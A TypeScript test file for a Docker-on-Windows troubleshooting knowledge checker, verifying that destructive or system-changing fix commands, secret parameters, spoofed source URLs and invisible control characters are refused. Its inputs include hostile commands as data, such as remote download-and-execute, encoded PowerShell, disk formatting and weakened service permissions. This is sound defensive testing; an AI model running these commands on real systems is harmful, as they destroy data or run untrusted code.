// kb check applies every content rule to every topic (core/knowledge/content-rules.ts), one
// definition each: generic signatures, secrets in fix parameters, read-only and destructive fixes; and
// to every file of the knowledge we write: no control characters or invisible direction marks.
import { adversarialRuns } from '../helpers/arbitraries.js';
import { describe, expect, it } from 'vitest';
import { assembleKnowledgeBase } from '../../src/core/knowledge/assemble-kb.js';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { controlCharacterProblems, DESTRUCTIVE, readOnlyDoubt, TEMPLATE_EXAMPLES } from '../../src/core/knowledge/content-rules.js';
import { realKnowledgeBase, realKnowledgeInput } from '../helpers/real-kb.js';

const input = realKnowledgeInput();
/**
 * The knowledge with one topic, changed, and without the trees, code catalogues, translations and fix texts: the rules
 * judge each topic on its own, and assembling the rest for each of some sixty cases took most of this file's time
 * (9.7 s of CPU with every topic, 5.9 s with every file but the other topics; 75 ms a case against 8 ms now). What
 * the lone topic's references to others and the missing files add to the problems does not matter: a case looks for
 * its own. The rules on trees and translations are tried below on the whole knowledge.
 */
const edit = (id: string, change: (d: Record<string, any>) => void) => ({
  ...input,
  trees: [],
  codes: [],
  translations: [],
  fixText: [],
  topics: input.topics
    .filter((f) => f.file.endsWith(`/${id}.yaml`))
    .map((f) => {
      const d = structuredClone(f.data) as Record<string, any>;
      change(d);
      return { ...f, data: d };
    }),
});

/** A mistake: its name, the topic it is made in, the change, and the problem kb check must name. */
type Case = readonly [string, string, (d: any) => void, RegExp];

describe('content rules in kb check', () => {
  it('the shipped knowledge follows them', () => {
    // The whole knowledge as kb check assembles it, with these rules: assembled once per run by the global setup
    // (test/setup/knowledge-base.ts), from the input this file reads (test/knowledge/kb-check.test.ts checks that they are the same).
    expect(realKnowledgeBase().problems).toEqual([]);
  });

  it.each<Case>([
    ['a generic keyword', 'nat-static-mapping-conflict', (d: any) => d.signatures.keywords.en.push('Docker'), /signatures\.keywords\.en\[\d+\].*in every other paste/],
    ['a generic phrase in Korean', 'hns-requires-ipv6', (d: any) => d.signatures.phrases.push('컨테이너'), /signatures\.phrases\[\d+\].*in every other paste/],
    ['a password parameter', 'nat-static-mapping-conflict', (d: any) => { d.fixes[0].command += ' {{password}}'; d.fixes[0].params.password = { kind: 'text', description: 'x' }; }, /fixes\[0\]\.params\.password.*never asks for a password/],
    ['a read-only fix that restarts a service', 'nat-static-mapping-conflict', (d: any) => { d.fixes[0].command = 'Restart-Service hns'; }, /fixes\[0\]\.readOnly.*changes the system/],
    ['a read-only fix marked high risk', 'nat-static-mapping-conflict', (d: any) => { d.fixes[0].risk = 'high'; }, /fixes\[0\]\.risk.*read-only fix is low risk/],
    ['a destructive fix marked low risk', 'hns-requires-ipv6', (d: any) => { d.fixes[1].risk = 'low'; }, /fixes\[1\]\.risk.*high risk/],
    // Found by a helper walking the contributor path: each of these passed kb check.
    ...['taskkill /im dockerd.exe /f', 'rd /s /q C:\\x', 'docker compose down -v', 'docker container stop web', 'msiexec /x {0}', 'ipconfig /release', 'netsh winsock reset', 'wsl --unregister Ubuntu', 'Initialize-Disk 1', 'Format-Volume -DriveLetter D', 'net stop docker', 'sc config docker start= disabled', 'Set-Service hns -StartupType Disabled', 'Clear-Content C:\\x.json', 'docker network disconnect nat web', 'docker stop web', 'kubectl drain node1'].map(
      (command): Case => [`"${command}" as a read-only, low-risk fix`, 'nat-static-mapping-conflict', (d: any) => { d.fixes[0].command = command; d.fixes[0].params = {}; }, /fixes\[0\]\.(?:readOnly.*changes the system|risk.*high risk)/],
    ),
    ...['docker update --restart=no web', 'net use Z: \\\\srv\\share', 'docker pull x', 'kubectl label node n a=b'].map(
      (command): Case => [`"${command}" as a read-only fix`, 'nat-static-mapping-conflict', (d: any) => { d.fixes[0].command = command; d.fixes[0].params = {}; }, /fixes\[0\]\.readOnly.*changes the system/],
    ),
    // Found by an attacker helper: each passed as read-only, low risk, "Changes: nothing", and ran on a single y.
    ...['Get-Service docker, hns | spsv -Force -PassThru', 'Get-Service hns; powershell -NoProfile -EncodedCommand UwB0AG8AcAA=', 'ri -Recurse C:\\x', 'saps calc', '(Get-Service docker).Stop()', '(Get-Item X).Delete($true)', 'gps | % { $_.Terminate() }', 'iex (irm https://x.example)', 'Invoke-Expression $env:X', "'{}' > C:\\ProgramData\\docker\\config\\daemon.json", '[IO.File]::WriteAllText("a", "b")', 'schtasks /create /tn x /tr calc', 'icacls C:\\x /reset /t', 'takeown /f C:\\x /r', 'diskpart /s x.txt', 'winrm quickconfig -q', 'Get-Service | Out-File C:\\x.txt', 'Invoke-WebRequest https://x.example -OutFile C:\\x.exe'].map(
      (command): Case => [`"${command}" as a read-only fix`, 'nat-static-mapping-conflict', (d: any) => { d.fixes[0].command = command; d.fixes[0].params = {}; }, /fixes\[0\]\.readOnly.*(?:changes the system|cannot be read as read-only)/],
    ),
    ['a pattern any paste matches', 'hns-requires-ipv6', (d: any) => d.signatures.regexes.push('.'), /signatures\.regexes\[\d+\] \/\.\/ matches "hello world"/],
    ['a pattern that matches nothing at all', 'hns-requires-ipv6', (d: any) => d.signatures.regexes.push('x?'), /signatures\.regexes\[\d+\] .*matches the empty text/],
    ['a pattern of one common word', 'hns-requires-ipv6', (d: any) => d.signatures.regexes.push('error'), /signatures\.regexes\[\d+\] .*matches "error"/],
    ["the template's placeholder as a Korean title", 'hns-store-corrupted-cleanup', (d: any) => (d.title['ko-KR'] = '…'), /title\.ko-KR is still the template's placeholder/],
    ['an English Swedish summary', 'hns-store-corrupted-cleanup', (d: any) => (d.summary['sv-SE'] = d.summary.en), /summary\.sv-SE is the English text/],
    ['a Chinese title with no Chinese', 'hns-store-corrupted-cleanup', (d: any) => (d.title['zh-CN'] = 'HNS state is corrupted'), /title\.zh-CN has no Chinese text/],
    ['a body of one word', 'hns-store-corrupted-cleanup', (d: any) => (d.body.en = 'x'), /body\.en is 1 words: write 60–1200/],
    ['a 5 MB body', 'hns-store-corrupted-cleanup', (d: any) => (d.body.en = 'word '.repeat(1_000_000)), /body\.en is 1000000 words/],
    ['a Swedish body cut short', 'hns-store-corrupted-cleanup', (d: any) => (d.body['sv-SE'] = 'Kort.'), /body\.sv-SE is much shorter than the English body/],
    ['a source whose URL names a user before its host (an attacker helper: it reads as Microsoft\'s page, a browser opens example.net)', 'hns-store-corrupted-cleanup', (d: any) => d.sources.push({ url: 'https://learn.microsoft.com@example.net/x', title: 'Microsoft Learn' }), /sources\[\d+\]\.url must name its host right after https:\/\//],
    ["the template's example source", 'hns-store-corrupted-cleanup', (d: any) => d.sources.push({ url: 'https://github.com/owner/repo/issues/1234', title: 'A thread' }), /sources\[\d+\]\.url "https:\/\/github\.com\/owner\/repo\/issues\/1234" is the template's example/],
    ["the template's example phrase", 'hns-store-corrupted-cleanup', (d: any) => d.signatures.phrases.push('literal error text as the tool prints it'), /signatures\.phrases\[\d+\] .* is the template's example/],
  ])('refuses %s, naming the file and the field', (_name, id, change, message) => {
    const { problems } = assembleKnowledgeBase(edit(id, change));
    expect(problems.map((p) => `${p.file} ${p.field} ${p.message}`).join('\n')).toMatch(new RegExp(`${id}\\.yaml ${message.source}`));
  });
});

describe('a destructive command is a command word, not a word of an option or a value (found by a reviewer)', () => {
  it.each(['bcdedit /enum', 'docker run --rm mcr.microsoft.com/windows/nanoserver:ltsc2022 cmd /c ver', 'docker events --filter event=kill', 'Get-Service hns | Format-Table', 'Start-Sleep 2', 'Set-Service docker -StartupType Automatic', 'Get-Service docker | Select-Object Status', 'docker context use default', "Set-ItemProperty -LiteralPath (Join-Path C:\\x 'panic.log') -Name IsReadOnly -Value $false; Start-Service docker", '$ri = 1; $spsv = 2', 'Get-Item x.ri'])('%s is not destructive', (command) => {
    expect(DESTRUCTIVE.test(command)).toBe(false);
  });

  // Found by an attacker helper: each passed kb check as a low-risk fix (one "y" ran it, no typed word).
  it.each(['Set-Service -Name docker -Status Stopped', 'spsv docker', 'ri C:\\ProgramData\\docker\\windowsfilter -Recurse -Force', 'rp HKLM:\\SYSTEM\\CurrentControlSet\\Services\\docker -Name ImagePath', '(Get-Service docker).Stop()', "(Get-Service docker).'Stop'()", '(Get-Item C:\\x\\daemon.json).Delete()', 'Get-Process dockerd | spps -Force', 'net.exe stop docker', 'sc \\\\localhost stop docker', 'wmic service where name="docker" call stopservice', "Invoke-CimMethod -InputObject $s -MethodName StopService",
    // Found by a regression tester of that change: the same, spelled otherwise.
    'Set-Service docker -Status:Stopped', 'Set-Service docker \u2013Status Stopped', 'Set-Service docker -StartupType:Disabled', 'Set-Service docker -StartMode Disabled', 'Get-Service docker | ForEach-Object -MemberName Stop', 'Get-Service docker | % Stop', '(Get-Service docker).Stop.Invoke()', "Invoke-CimMethod -Query \"SELECT * FROM Win32_Service WHERE Name='docker'\" -Name StopService", 'Invoke-CimMethod -InputObject $p -Name Terminate', 'net pause docker', 'net1 stop docker', 'sc.exe pause docker', 'wsl -t Ubuntu'])('%s is destructive', (command) => {
    expect(DESTRUCTIVE.test(command)).toBe(true);
  });
});

describe('what a read-only fix may hold (readOnlyDoubt)', () => {
  it.each(adversarialRuns(['separators', '; \n ; '.repeat(20_000)], ['quotes', `'"`.repeat(50_000)], ['background operators', '; | & '.repeat(20_000)]))('reads %s between two reading commands at once', (name, filler) => {
    // Blanks and separators change nothing; quotes joined to a word and control characters are refused as text a
    // reader may see otherwise than PowerShell does (read-only.ts).
    const unreadable = name === 'quotes' || name === 'control characters' || name === 'background operators';
    expect(readOnlyDoubt(`Get-Service hns${filler}docker ps`, 'powershell') === undefined).toBe(!unreadable);
    expect(readOnlyDoubt(`Get-Service hns${filler}; spsv docker`, 'powershell')).toBeDefined();
  });

  it.each(['Get-Service hns 2>$null', 'docker ps 2>&1', 'docker exec web powershell -NoProfile -Command "Get-ChildItem Cert:\\LocalMachine\\Root"', 'docker exec web cmd /c dir C:\\', "Get-NetAdapter | Where-Object { $_.Status -eq 'Up' } | Format-Table Name", '(Get-CimInstance Win32_ComputerSystem).TotalPhysicalMemory', 'Write-Host ($x.ToString())'])('%s reads', (command) => {
    expect(readOnlyDoubt(command, 'powershell')).toBeUndefined();
  });

  // Found by a reviewer: each passed as read-only; and `<none>` in a quoted pattern was taken for a redirection.
  // Found by a second attacker helper: each passed the real kb check as read-only, low risk.
  it.each(['Import-Certificate -FilePath x.cer -CertStoreLocation Cert:\\LocalMachine\\Root', '(Get-Volume D).Format("NTFS")', "(Get-Service docker).'Stop'()", 'sc.exe sdset docker D:(A;;GA;;;WD)', 'net user Administrator P@ss1', 'curl.exe -o C:\\ProgramData\\docker\\config\\daemon.json https://x.example', 'auditpol /set /category:x', 'docker container run --privileged img', 'kubectl run x --image y', '[IO.StreamWriter]::new("x")', 'Invoke-RestMethod -Method Post https://x.example/containers/web/stop'])('%s is doubted', (command) => {
    expect(readOnlyDoubt(command, 'powershell')).toBeDefined();
  });

  it.each(['Write-Host done', 'Join-Path C:\\a b', 'net user', 'docker image ls', 'kubectl exec pod -- ipconfig'])('%s reads', (command) => {
    expect(readOnlyDoubt(command, 'powershell')).toBeUndefined();
  });

  it.each(['Get-Service docker | % Stop', 'Get-Service docker | ForEach-Object -MemberName Stop', 'Get-WmiObject Win32_Process | % Terminate', 'Get-Process | sc C:\\ProgramData\\docker\\config\\daemon.json', 'ii C:\\Users\\Public\\x.bat', '& C:\\Users\\Public\\x.ps1', '. C:\\x.ps1', '& $cmd', 'wmic process call create calc.exe'])('%s is doubted', (command) => {
    expect(readOnlyDoubt(command, 'powershell')).toBeDefined();
  });

  it("reads `<none>` in a quoted pattern as text, and `sc query` as the service controller outside PowerShell", () => {
    expect(readOnlyDoubt("docker images | Select-String '<none>'", 'powershell')).toBeUndefined();
    expect(readOnlyDoubt('docker images --filter "dangling=true" > C:\\x.txt', 'powershell')).toBe('>');
    expect(readOnlyDoubt('sc query docker', 'cmd')).toBeUndefined();
    expect(readOnlyDoubt('sc.exe query docker', 'powershell')).toBeUndefined();
    expect(readOnlyDoubt("& 'C:\\Program Files\\Docker\\docker.exe' ps", 'powershell')).toBeUndefined();
  });
});

describe("the template's example values", () => {
  it('are the template\'s own, so that a copy left unchanged is caught', () => {
    const template = readFileSync(path.join(import.meta.dirname, '../../knowledge/templates/topic.yaml'), 'utf8');
    for (const v of TEMPLATE_EXAMPLES) expect(template, v).toContain(v);
  });
});

describe('no control characters or invisible direction marks in the knowledge we write', () => {
  const messages = (i: typeof input) => assembleKnowledgeBase(i).problems.map((p) => `${p.file} ${p.field} ${p.message}`).join('\n');

  it.each([
    ['an escape sequence in a title', (d: any) => (d.title.en = `\u001b]0;owned\u0007${d.title.en}`), /title\.en holds the invisible character U\+001B at position 1/],
    ['a carriage return in a fix command', (d: any) => (d.fixes[0].command += '\rRemove-Item C:\\'), /fixes\[0\]\.command holds the invisible character U\+000D/],
    ['a right-to-left override in a phrase', (d: any) => d.signatures.phrases.push('abc\u202edef'), /signatures\.phrases\[\d+\] holds the invisible character U\+202E/],
    ['a C1 control in a Korean summary', (d: any) => (d.summary['ko-KR'] += '\u009b2J'), /summary\.ko-KR holds the invisible character U\+009B/],
    ['a character that draws nothing in a fix title (an attacker helper)', (d: any) => (d.fixes[0].title = `Remove \u{1bca0}${d.fixes[0].title}`), /fixes\[0\]\.title holds the invisible character U\+1BCA0 at position 8/],
    ['a zero-width space in a fix command', (d: any) => (d.fixes[0].command += '\u200b'), /fixes\[0\]\.command holds the invisible character U\+200B/],
    ['an Arabic letter mark in a summary (a reviewer: the display filter shows it, kb check took it)', (d: any) => (d.summary.en += '\u061c'), /summary\.en holds the invisible character U\+061C/],
  ])('refuses %s in a topic, naming the file and the field', (_name, change, message) => {
    expect(messages(edit('nat-static-mapping-conflict', change))).toMatch(new RegExp(`nat-static-mapping-conflict\\.yaml ${message.source}`));
  });

  it('refuses one in a tree and in a translation, and lets tabs and line feeds pass', () => {
    // As for a topic above, the file looked at without the topics and the other kinds of file: a case looks for its own
    // problem, and assembling all of the knowledge twice took most of this file's CPU.
    const alone = { ...input, topics: [], trees: [], codes: [], translations: [], fixText: [] };
    const tree = input.trees[0]!;
    const withTree = { ...alone, trees: [{ ...tree, data: { ...(tree.data as object), title: 'a\u001b[2Jb' } }, ...input.trees.slice(1)] };
    expect(messages(withTree)).toMatch(new RegExp(`${tree.file.replace(/[.]/g, '\\.')} title holds the invisible character U\\+001B`));
    const tr = input.translations![0]!;
    const withTranslation = { ...alone, translations: [{ ...tr, text: `${tr.text}\u0007` }, ...input.translations!.slice(1)] };
    expect(messages(withTranslation)).toMatch(/holds the invisible character U\+0007/);
    expect(controlCharacterProblems({ a: ['line one\n\tline two'], b: 'Ω 容器 컨테이너' }, 'f.yaml')).toEqual([]);
  });
});
